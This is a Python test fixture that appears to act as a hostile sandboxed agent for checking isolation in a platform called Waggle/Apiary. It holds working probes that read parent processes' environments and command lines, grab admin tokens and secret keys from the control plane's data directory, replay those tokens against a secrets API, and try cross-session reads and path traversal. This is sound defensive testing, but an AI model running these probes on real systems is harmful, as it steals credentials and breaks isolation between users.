"""A hostile agent: for each Waggle message it tries every way out of its drone it knows and answers
with what it found, one JSON object per attack (stdlib only: it runs under any interpreter, as
any user).

The message's payload names what to aim at: ``{"victim": SESSION, "otherCell": CELL, "api": URL}``
— another live session of the same cell, another cell with long-term memory, and the API's
address (an attacker finds it anyway: it is in ``/proc/net/tcp``). Every finding is a short
string, so a test can assert on each attack separately and print them all when one succeeds.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path
from typing import Any

DATA_FILES = ("admin.token", "secret.key", "apiary.db", "journal.db", "comb.db", "audit.log")


def _http(method: str, url: str, token: str | None, body: Any = None) -> int:
    """The status code of one call (0: no answer)."""
    data = None if body is None else json.dumps(body).encode()
    req = urllib.request.Request(url, data=data, method=method)
    if token:
        req.add_header("Authorization", f"Bearer {token}")
    if data is not None:
        req.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(req, timeout=5) as resp:
            return int(resp.status)
    except urllib.error.HTTPError as exc:
        exc.close()  # its socket, or the next message would count it as inherited
        return int(exc.code)
    except OSError:
        return 0


def inherited_descriptors() -> dict[str, Any]:
    """Every descriptor beyond stdio, and whether any of them is a socket that accepts."""
    fds = sorted(int(n) for n in os.listdir("/proc/self/fd") if n.isdigit())
    extra, accepted = [], []
    for fd in fds:
        if fd <= 2:
            continue
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue  # the directory listing's own descriptor, already closed
        extra.append(f"{fd}->{target}")
        if target.startswith("socket:"):
            try:
                s = socket.socket(fileno=os.dup(fd))
                s.setblocking(False)
                try:
                    s.accept()
                    accepted.append(fd)
                except BlockingIOError:
                    accepted.append(fd)  # a listening socket: accept would have served a client
                except OSError:
                    pass
                finally:
                    s.close()
            except OSError:
                pass
    return {"extra": extra, "accepted": accepted}


def _ancestors() -> list[int]:
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 8:
        pids.append(pid)
        try:
            stat = Path(f"/proc/{pid}/stat").read_bytes()
            pid = int(stat[stat.rindex(b")") + 2 :].split()[1])
        except (OSError, ValueError):
            break
    return pids


def data_dirs() -> list[str]:
    """``--data-dir`` from the command lines of the processes above us (world-readable)."""
    found = []
    for pid in _ancestors():
        try:
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        for i, arg in enumerate(argv):
            text = arg.decode(errors="replace")
            if text == "--data-dir" and i + 1 < len(argv):
                found.append(argv[i + 1].decode(errors="replace"))
            elif text.startswith("--data-dir="):
                found.append(text.split("=", 1)[1])
    return found


def read_data_dir(dirs: list[str]) -> dict[str, Any]:
    """What of the control plane's data dir we can read (file name → first bytes)."""
    read: dict[str, str] = {}
    listed: list[str] = []
    for d in dirs:
        try:
            listed.extend(os.listdir(d))
        except OSError:
            pass
        for name in DATA_FILES:
            try:
                read[f"{d}/{name}"] = Path(d, name).read_bytes()[:64].decode(errors="replace")
            except OSError:
                pass
    return {"dirs": dirs, "listed": listed, "read": read}


def ancestors_environ() -> dict[str, str]:
    """``/proc/<pid>/environ`` of every process above us that we can read."""
    out = {}
    for pid in _ancestors():
        try:
            out[str(pid)] = (
                Path(f"/proc/{pid}/environ").read_bytes()[:4096].decode(errors="replace")
            )
        except OSError:
            pass
    return out


def api_calls(api: str, tokens: list[str]) -> dict[str, int]:
    """Each token we could find, and none at all, against the API's most valuable routes."""
    out = {}
    for i, token in enumerate(["", *tokens]):
        out[f"token{i}:secrets"] = _http("GET", f"{api}/api/v1/secrets?reveal=true", token)
        out[f"token{i}:cells"] = _http("GET", f"{api}/api/v1/cells", token)
    return out


def keeper_calls(own_session: str, victim: str, other_cell: str) -> dict[str, int]:
    url, token = os.environ["APIARY_KEEPER_URL"], os.environ["APIARY_KEEPER_TOKEN"]
    base, drone = url.rsplit("/", 1)
    cells_base = base.rsplit("/", 1)[0]  # …/drones
    q = urllib.parse.quote
    return {
        "own:write": _http("PUT", f"{url}/comb/{q(own_session)}/probe", token, {"value": 1}),
        "own:read": _http("GET", f"{url}/comb/{q(own_session)}/probe", token),
        "victim:read": _http("GET", f"{url}/comb/{q(victim)}/secret", token),
        "victim:write": _http("PUT", f"{url}/comb/{q(victim)}/secret", token, {"value": "x"}),
        "victim:keys": _http("GET", f"{url}/comb/{q(victim)}", token),
        "victim:list": _http("GET", f"{url}/lists/{q(victim)}/log", token),
        "victim:dotdot": _http("GET", f"{url}/comb/..%2F{q(victim)}/secret", token),
        "memory:search": _http("GET", f"{url}/memory/search?q=secret", token),
        "otherCell:search": _http(
            "GET", f"{cells_base}/{q(other_cell)}/{q(drone)}/memory/search?q=secret", token
        ),
    }


def probe(msg: dict[str, Any]) -> dict[str, Any]:
    aim = msg.get("payload") or {}
    descriptors = inherited_descriptors()  # first: before this probe opens any of its own
    dirs = data_dirs()
    files = read_data_dir(dirs)
    tokens = [v.strip() for k, v in files["read"].items() if k.endswith("admin.token")]
    tokens += [v for k, v in os.environ.items() if "TOKEN" in k]
    return {
        "sessionId": msg.get("sessionId"),
        "uid": os.getuid(),
        "gid": os.getgid(),
        "env": sorted(os.environ),
        "descriptors": descriptors,
        "dataDir": files,
        "environ": ancestors_environ(),
        "api": api_calls(str(aim.get("api", "")), tokens),
        "keeper": keeper_calls(
            str(msg.get("sessionId", "")).rsplit("/", 1)[-1],  # "cell/name" on the wire
            str(aim.get("victim")),
            str(aim.get("otherCell")),
        ),
    }


def main() -> None:
    for line in sys.stdin:
        msg = json.loads(line)
        try:
            found: Any = probe(msg)
        except Exception as exc:  # a broken probe must say so, not hang the test
            found = {"error": f"{type(exc).__name__}: {exc}"}
        print(json.dumps(found), flush=True)


if __name__ == "__main__":
    main()
